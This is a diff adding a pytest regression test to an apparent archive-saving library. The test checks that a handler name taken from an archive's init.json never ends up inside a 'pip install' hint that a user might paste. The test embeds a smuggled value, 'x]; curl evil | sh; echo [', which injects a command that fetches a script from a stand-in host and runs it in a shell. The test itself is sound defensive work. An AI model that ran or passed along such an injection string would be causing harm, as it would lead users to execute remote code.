@@ -163,3 +163,23 @@ def test_printable_text_passes_as_it_is():
         assert visible(text) == text
     assert visible("a\tb\nc", lines=True) == "a\\tb\nc"
     assert visible("a\tb\nc") == "a\\tb\\nc"
+
+
+def test_hints_never_hand_back_an_archive_name_as_a_command_to_paste(tmp_path):
+    """A hint may give a command to run; the archive's text is never part of one. An
+    ``init.json`` naming the handler ``x]; curl evil | sh; echo [`` was answered with "e.g.
+    `pip install zipsave[x]; curl evil | sh; echo []`"."""
+    import zipfile
+
+    zipsave.save({"lr": 0.1}, tmp_path / "plain.zip")
+    hostile = "x]; curl evil | sh; echo ["
+    with zipfile.ZipFile(tmp_path / "plain.zip") as src, zipfile.ZipFile(tmp_path / "h.zip", "w") as out:
+        for name in src.namelist():
+            if name != "manifest.json":
+                out.writestr(name, src.read(name))
+        out.writestr("init.json", json.dumps({"handler": hostile}))
+    with pytest.raises(zipsave.MissingDependencyError) as caught:
+        zipsave.load(tmp_path / "h.zip")
+    message = str(caught.value)
+    assert f"integration `{hostile}`, which is not installed" in message  # named where it is shown
+    assert "pip install" not in message and "a zipsave handler of that name" in message
